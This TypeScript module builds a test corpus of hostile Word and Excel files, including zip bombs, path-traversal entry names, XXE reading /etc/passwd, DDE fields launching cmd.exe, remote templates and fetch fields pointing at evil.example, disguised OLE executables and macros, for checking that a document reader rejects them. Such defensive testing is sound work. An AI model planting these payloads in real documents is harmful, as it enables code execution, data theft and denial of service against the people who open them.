import { deflateRawSync } from 'node:zlib'
import type { Verdict } from '#shared/documents/verdict.ts'
import { contentTypes, documentRelationships } from './generate/parts.ts'
import { p, r } from './generate/word-parts.ts'
import { type ZipFile, zipFiles } from './generate/zip-files.ts'
import { generateDocx, generateFiles } from './generate.ts'

/** A file made to do harm, and the verdicts that may answer it; none means that it has to be translated all the same. */
export type HostileFile = { name: string; verdicts: readonly Verdict[]; make(): Uint8Array }

/** Every kind of attack that the reader promises to answer. Small to make, so that a test can hold them all. */
export const hostileFiles: readonly HostileFile[] = [
  bomb('one entry of zeros', ['bomb'], () => ({ data: Buffer.alloc(16 * mib) })),
  bomb('a flat bomb of many entries', ['bomb'], () => {
    const packed = deflateRawSync(Buffer.alloc(mib))
    return Array.from({ length: 200 }, (_, i) => ({ name: `word/media/z${i}.png`, statedSize: mib, packed }))
  }),
  bomb('an entry larger than it says', ['corrupt'], () => ({ data: Buffer.alloc(8 * mib), statedSize: 1000 })),
  bomb('an entry smaller than it says', ['corrupt'], () => ({ data: 'short', statedSize: 5000 })),
  bomb('a wrong checksum', ['corrupt'], () => ({ data: 'text', statedCrc: 1 })),
  bomb('too many entries', ['too-complex'], () =>
    Array.from({ length: 2500 }, (_, i) => ({ name: `word/media/i${i}.png`, data: '' })),
  ),
  bomb('a name with two dots', ['unsafe-name'], () => ({ name: 'word/../../evil.xml', data: '' })),
  bomb('a name with backslashes and dots', ['unsafe-name'], () => ({ name: 'word\\..\\..\\evil.xml', data: '' })),
  bomb('an absolute name', ['unsafe-name'], () => ({ name: '/etc/passwd', data: '' })),
  bomb('a drive letter', ['unsafe-name'], () => ({ name: 'C:\\evil.dll', data: '' })),
  bomb('a name with NUL', ['unsafe-name'], () => ({ name: 'word/a\0.xml', data: '' })),
  bomb('a name of sixty thousand letters', ['unsafe-name'], () => ({
    name: `word/${'a'.repeat(60_000)}.xml`,
    data: '',
  })),
  bomb('a name that reads backwards', ['unsafe-name'], () => ({ name: 'word/\u202egpj.exe', data: '' })),
  bomb('two names in one entry', ['corrupt'], () => ({ name: 'word/a.xml', localName: 'word/b.xml', data: '' })),
  bomb('one name twice', ['corrupt'], () => ({ name: 'word/DOCUMENT.xml', data: '<w/>' })),
  bomb('a locked entry', ['encrypted'], () => ({ name: 'word/x.bin', data: 'x', flags: 1 })),
  bomb('an unknown compression', ['corrupt'], () => ({ name: 'word/x.bin', data: 'x', method: 99 })),
  bomb('a program', ['embedded-object'], () => ({ name: 'word/media/image1.png', data: `MZ${'\0'.repeat(200)}` })),
  bomb('a script', ['embedded-object'], () => ({ name: 'word/run.vbs', data: 'MsgBox 1' })),
  bomb('macros', ['macros'], () => ({ name: 'word/vbaProject.bin', data: 'macro' })),
  bomb('macros in an embedded workbook', ['macros'], () => ({
    name: 'word/embeddings/sheet.xlsx',
    stored: true,
    data: zipFiles([{ name: 'xl/vbaProject.bin', data: 'x' }]),
  })),
  bomb('a wrapped program', ['embedded-object'], () => ({
    name: 'word/embeddings/oleObject1.bin',
    data: Buffer.concat([ole, Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from('\0evil.exe\0')]),
  })),
  bomb('a wrapped program among ordinary names', ['embedded-object'], () => ({
    name: 'word/embeddings/oleObject1.bin',
    data: wrapped('invoice.exe', 'MZ'),
  })),
  bomb('a program wrapped under another name', ['embedded-object'], () => ({
    name: 'word/embeddings/oleObject1.bin',
    data: wrapped('invoice.txt', 'MZ'),
  })),
  bomb('a control of an unknown class', ['embedded-object'], () => ({
    name: 'word/activeX/activeX1.xml',
    data: '<ax:ocx xmlns:ax="urn:x" ax:classid="{F20DA720-C02F-11CE-927B-0800095AE340}"/>',
  })),
  replaced('elements nested too deep', ['too-complex'], 'word/document.xml', () =>
    document('<w:sdt>'.repeat(5000) + '</w:sdt>'.repeat(5000)),
  ),
  replaced('too many elements', ['too-complex'], 'word/document.xml', () =>
    document(noise('<w:bookmarkEnd/>', 2_100_000)),
  ),
  replaced('a look for every word', ['too-complex'], 'word/document.xml', () =>
    document(p(Array.from({ length: 122_000 }, (_, i) => r(`${i * i}a`, i % 2 ? '<w:b/>' : '<w:i/>')).join(''))),
  ),
  replaced(
    'an entity bomb',
    ['dtd'],
    'word/document.xml',
    () => `<!DOCTYPE w [<!ENTITY a "aaaa">]>${document(p('&a;'))}`,
  ),
  replaced(
    'an outside entity',
    ['dtd'],
    'word/styles.xml',
    () => '<?xml version="1.0"?><!DOCTYPE s SYSTEM "file:///etc/passwd"><s/>',
  ),
  bomb('an entity bomb in a part that is only copied', ['dtd'], () => ({
    name: 'customXml/item7.xml',
    data: '\ufeff<?xml version="1.0"?><!-- x --> <!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>',
  })),
  replaced('XML that ends early', ['corrupt'], 'word/document.xml', () => document(p('text')).slice(0, -20)),
  replaced('tags that cross', ['corrupt'], 'word/document.xml', () => document('<w:p><w:r></w:p></w:r>')),
  replaced('an attribute without quotes', ['corrupt'], 'word/document.xml', () => document('<w:p a=b/>')),
  replaced('bytes that are no UTF-8', ['corrupt'], 'word/document.xml', () =>
    Buffer.from(document(p('na\u00efve')), 'latin1'),
  ),
  replaced('a prefix from nowhere', ['corrupt'], 'word/document.xml', () => document('<evil:p/>')),
  replaced('a macro-enabled main part', ['macros'], '[Content_Types].xml', () =>
    contentTypes.replace(
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      'application/vnd.ms-word.document.macroEnabled.main+xml',
    ),
  ),
  replaced('a spreadsheet by content', ['type-mismatch'], '[Content_Types].xml', () =>
    contentTypes.replace('wordprocessingml.document.main+xml', 'spreadsheetml.sheet.main+xml'),
  ),
  replaced('two parts of numbers, of which programs show another', ['corrupt'], 'word/_rels/document.xml.rels', () =>
    relation('numbering', 'a.xml', '').replace(
      '</Relationships>',
      '<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/numbering" Target="b.xml"/></Relationships>',
    ),
  ),
  replaced('two parts of styles, of which programs show another', ['corrupt'], 'word/_rels/document.xml.rels', () =>
    relation('styles', 'a.xml', '').replace(
      '</Relationships>',
      '<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="b.xml"/></Relationships>',
    ),
  ),
  replaced('a template from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
    relation('attachedTemplate', 'https://evil.example/t.dotm'),
  ),
  replaced('an object from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
    relation('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'),
  ),
  replaced('a frame from the web', ['external-content'], 'word/_rels/document.xml.rels', () =>
    relation('frame', 'http://evil.example/'),
  ),
  replaced('a command in a field', ['external-content'], 'word/document.xml', () =>
    document(
      p(
        r('<w:fldChar w:fldCharType="begin"/>') +
          r('<w:instrText>DDE</w:instrText>') +
          r('<w:instrText>AUTO c:\\\\cmd.exe "/k calc"</w:instrText>') +
          r('<w:fldChar w:fldCharType="end"/>'),
      ),
    ),
  ),
  ...[
    'INCLUDEPICTURE "https://evil.example/x.png" \\d',
    'INCLUDETEXT "https://evil.example/x.docx"',
    'IMPORT \\\\\\\\evil\\\\share\\\\x.png \\d',
    'RD \\f "https://evil.example/x.docx"',
    'DATABASE \\d "\\\\\\\\evil\\\\x.mdb"',
    'LINK Word.Document.12 "file://evil/x.docx" \\a',
    'LINK Word.Document.12 "file:\\\\\\\\evil\\\\x.docx" \\a',
    'INCLUDETEXT "file:////evil/share/x.docx"',
    'INCLUDEPICTURE "//evil/share/x.png" \\d',
    'INCLUDETEXT “https://evil.example/x.docx”',
    'INCLUDETEXT "h\\ttps://evil.example/x.docx"',
  ].map((code) =>
    replaced(`a field that fetches: ${code}`, ['external-content'], 'word/document.xml', () =>
      document(`<w:p><w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}">${r('shown')}</w:fldSimple></w:p>`),
    ),
  ),
  replaced('a template from the web that says it is a part', ['external-content'], 'word/_rels/document.xml.rels', () =>
    relation('attachedTemplate', 'https://evil.example/t.dotm', ''),
  ),
  hanging('a control under another name', ['embedded-object'], 'control', 'word/media/thing.dat', () => control),
  hanging('a control written in UTF-16', ['embedded-object'], 'control', 'word/activeX/activeX1.xml', () =>
    Buffer.from(`\ufeff${control}`, 'utf16le'),
  ),
  hanging('a control whose class is disguised', ['embedded-object'], 'control', 'word/activeX/activeX1.xml', () =>
    control.replace('F20D', '&#70;20D'),
  ),
  hanging(
    'a control behind a harmless one',
    ['embedded-object'],
    'control',
    'word/activeX/activeX1.xml',
    () => `<!-- classid="{D7053240-CE69-11CD-A777-00DD01143C57}" -->${control}`,
  ),
  hanging('a wrapped program under another name', ['embedded-object'], 'oleObject', 'word/media/thing.dat', () =>
    wrapped('evil.exe', 'MZ'),
  ),
  hanging('a wrapped program that nothing names', ['embedded-object'], 'image', 'word/thing.dat', () =>
    wrapped('evil.exe', 'MZ'),
  ),
  ...['/word/_rels/document.xml.rels', 'word\\_rels\\document.xml.rels', './word/_rels/document.xml.rels'].map((name) =>
    bomb(`one part in two spellings: ${name}`, ['corrupt'], () => ({ name, data: documentRelationships })),
  ),
  replaced('a template from the web behind another target', ['corrupt'], 'word/_rels/document.xml.rels', () =>
    relation('attachedTemplate', 'https://evil.example/t.dotm').replace(
      'Id="rIdX"',
      'Id="rIdX" xmlns:z="urn:z" z:Target="a"',
    ),
  ),
  replaced('a command in a field of two codes', ['corrupt'], 'word/document.xml', () =>
    document(`<w:p><w:fldSimple xmlns:z="urn:z" z:instr="PAGE" w:instr="DDEAUTO x">${r('1')}</w:fldSimple></w:p>`),
  ),
  replaced('a command in a field of a disguised vocabulary', ['external-content'], 'word/document.xml', () =>
    document(
      `<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/m&#97;in"><x:fldSimple x:instr="DDEAUTO x"/></x:p>`,
    ),
  ),
  ...Object.entries({
    'in a fallback':
      '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback><w:instrText>DDEAUTO x</w:instrText></mc:Fallback></mc:AlternateContent>',
    'parted by a tab': '<w:instrText>DDEAUTO</w:instrText><w:tab/><w:instrText>x</w:instrText>',
    'as plain text': '<w:t>DDEAUTO x</w:t>',
    'that another field shows':
      '<w:fldChar w:fldCharType="begin"/><w:instrText>REF a</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>DDEAUTO</w:t><w:fldChar w:fldCharType="end"/><w:instrText> x</w:instrText>',
    'that another field quotes':
      '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> x</w:instrText>',
  }).map(([where, code]) =>
    replaced(`a command in a field ${where}`, ['external-content'], 'word/document.xml', () =>
      document(p(r(`<w:fldChar w:fldCharType="begin"/>${code}<w:fldChar w:fldCharType="end"/>`))),
    ),
  ),
  replaced('a command in a field of an equation', ['external-content'], 'word/document.xml', () =>
    document(
      p(
        `<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">${r('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText><w:fldChar w:fldCharType="end"/>')}</m:oMath>`,
      ),
    ),
  ),
  ...Object.entries({
    'behind blanks': () => ' '.repeat(40),
    'behind a long comment': () => `<!--${Array.from({ length: 40_000 }, (_, i) => (i * 7919) % 104_729).join(' ')}-->`,
  }).map(([where, before]) =>
    bomb(`an entity in a part that is only copied, ${where}`, ['dtd'], () => ({
      name: 'customXml/item7.xml',
      data: `${before()}<!DOCTYPE r [<!ENTITY a "aaaa">]><r>&a;</r>`,
    })),
  ),
  archive('macros under another name', 'macros', () => [
    declaring('/xl/a.bin', 'application/vnd.ms-office.vbaProject'),
    { name: 'xl/a.bin', data: 'x' },
  ]),
  archive('macros that a relationship declares', 'macros', () => [
    { name: 'xl/_rels/workbook.xml.rels', data: relation('vbaProject', 'a.bin', '') },
  ]),
  archive('sheets of macros', 'macros', () => [declaring('/xl/a.xml', 'application/vnd.ms-excel.macrosheet+xml')]),
  archive('a workbook with macros', 'macros', () => [
    { name: 'a.xlsx', data: zipFiles([{ name: 'xl/vbaProject.bin', data: 'x' }]) },
  ]),
  archive('archives that are a bomb together', 'bomb', () => {
    const packed = deflateRawSync(Buffer.alloc(mib))
    const files = Array.from({ length: 50 }, (_, i) => ({ name: `z${i}`, data: Buffer.alloc(mib), packed }))
    return ['a', 'b', 'c'].map((name) => ({ name, data: zipFiles(files) }))
  }),
  archive('a program', 'embedded-object', () => [{ name: 'a.exe', data: 'MZ' }]),
  archive('a template from the web', 'external-content', () => [
    { name: 'word/_rels/document.xml.rels', data: relation('attachedTemplate', 'https://evil.example/t.dotm') },
  ]),
  bomb('an archive that cannot be read', ['embedded-object'], () => ({
    name: 'word/embeddings/sheet.xlsx',
    data: Buffer.concat([zipFiles([{ name: 'a.xml', data: '<a/>' }]), Buffer.from('a tail')]),
  })),
  hanging('macros of a document under another name', ['macros'], 'package', 'word/media/thing.dat', () =>
    zipFiles([{ name: 'word/VBAPROJECT.BIN', data: 'x' }]),
  ),
  {
    name: 'a locked document',
    verdicts: ['encrypted'],
    make: () => Buffer.concat([ole, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]),
  },
  {
    name: 'an old binary document',
    verdicts: ['type-mismatch'],
    make: () => Buffer.concat([ole, Buffer.alloc(600), Buffer.from('WordDocument', 'utf16le')]),
  },
  {
    name: 'a picture under a false name',
    verdicts: ['type-mismatch'],
    make: () => Buffer.from('\u0089PNG\r\n\u001a\n0000000000000000000', 'latin1'),
  },
  { name: 'an empty file', verdicts: ['empty'], make: () => new Uint8Array() },
  {
    name: 'a ZIP of something else',
    verdicts: ['type-mismatch'],
    make: () => zipFiles([{ name: 'hello.txt', data: 'hello' }]),
  },
  { name: 'half a file', verdicts: ['corrupt'], make: () => generateDocx({ pages: 3 }).subarray(0, 6000) },
  { name: 'entries that share their bytes', verdicts: ['bomb'], make: overlapping },
  {
    name: 'a tail after the end',
    verdicts: ['corrupt'],
    make: () => Buffer.concat([generateDocx({ pages: 1 }), Buffer.from('<script>alert(1)</script>')]),
  },
]

/** Damaged copies of a good file, the same ones for the same seed: bytes turned, cut out, doubled and moved. */
export function mutants(source: Uint8Array, count: number, seed: number): Uint8Array[] {
  let state = seed >>> 0
  const next = (below: number) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
  return Array.from({ length: count }, () => {
    let bytes = Buffer.from(source)
    for (let times = 1 + next(6); times > 0; times--) {
      const at = next(bytes.length)
      const length = 1 + next(40)
      const kind = next(4)
      if (kind === 0) bytes[at] = next(256)
      else if (kind === 1) bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + length)])
      else if (kind === 2)
        bytes = Buffer.concat([bytes.subarray(0, at), bytes.subarray(at, at + length), bytes.subarray(at)])
      else bytes.fill(next(256), at, at + length)
    }
    return bytes
  })
}

/** The same, but inside the XML of the main part, so that the damage gets past the archive and to the reader of text. */
export function xmlMutants(count: number, seed: number): Uint8Array[] {
  const files = generateFiles({ pages: 3 })
  const main = files.find((file) => file.name === 'word/document.xml') as ZipFile
  return mutants(Buffer.from(main.data as string), count, seed).map((data) =>
    zipFiles(files.map((file) => (file === main ? { ...file, data } : file))),
  )
}

const mib = 1024 * 1024
const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex')

/** An OLE object as the object packager writes it around any file. */
export function wrapped(name: string, content: string): Uint8Array {
  const head = `\u0002\0${name}\0C:\\${name}\0\0\0\u0003\0\u0008\0\0\0C:\\Temp\\${name}\0\u0008\0\0\0`
  return Buffer.concat([ole, Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from(head + content, 'latin1')])
}

const control =
  '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{F20DA720-C02F-11CE-927B-0800095AE340}"/>'

const document = (body: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`

const declaring = (part: string, type: string): ZipFile => ({
  name: '[Content_Types].xml',
  data: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="${part}" ContentType="${type}"/></Types>`,
})

const relation = (kind: string, target: string, mode = ' TargetMode="External"') =>
  documentRelationships.replace(
    '</Relationships>',
    `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"${mode}/></Relationships>`,
  )

/** Many elements that do not pack a hundredfold, so that the count is what stops them. */
function noise(element: string, count: number): string {
  const some = element.repeat(20)
  const parts = Array.from(
    { length: count / 20 },
    (_, i) => `<!--${Math.imul(i + 1, 2654435761).toString(36)}-->${some}`,
  )
  return parts.join('')
}

function bomb(
  name: string,
  verdicts: readonly Verdict[],
  make: () => Partial<ZipFile> | Partial<ZipFile>[],
): HostileFile {
  return {
    name,
    verdicts,
    make: () => {
      const added = [make()].flat().map((file) => ({ name: 'word/media/image9.png', data: '', ...file }))
      return zipFiles([...generateFiles({ pages: 1 }), ...added])
    },
  }
}

/** A workbook with these files in it. */
function archive(what: string, verdict: Verdict, files: () => ZipFile[]): HostileFile {
  return bomb(`an archive with ${what}`, [verdict], () => ({
    name: 'word/embeddings/sheet.xlsx',
    data: zipFiles(files()),
  }))
}

function replaced(
  name: string,
  verdicts: readonly Verdict[],
  part: string,
  make: () => string | Uint8Array,
): HostileFile {
  return {
    name,
    verdicts,
    make: () =>
      zipFiles(generateFiles({ pages: 1 }).map((file) => (file.name === part ? { ...file, data: make() } : file))),
  }
}

/** The directory points twice at the same bytes; with more of them a few kilobytes unpack to gigabytes. */
function overlapping(): Uint8Array {
  const inner = zipFiles([{ name: 'word/b.bin', data: 'hidden' }])
  const outer = [
    ...generateFiles({ pages: 1 }),
    { name: 'word/a.bin', data: inner, stored: true },
    { name: 'word/b.bin', data: 'hidden' },
  ]
  const bytes = Buffer.from(zipFiles(outer))
  const record = bytes.lastIndexOf(Buffer.from('word/b.bin'))
  bytes.writeUInt32LE(bytes.indexOf(inner.subarray(0, 40)), record - 4)
  return bytes
}

/** A part that the document names by a relationship. */
function hanging(
  name: string,
  verdicts: readonly Verdict[],
  kind: string,
  part: string,
  data: () => string | Uint8Array,
): HostileFile {
  const target = `/${part}`
  return {
    name,
    verdicts,
    make: () =>
      zipFiles([
        ...generateFiles({ pages: 1 }).map((file) =>
          file.name === 'word/_rels/document.xml.rels' ? { ...file, data: relation(kind, target, '') } : file,
        ),
        { name: part, data: data() },
      ]),
  }
}
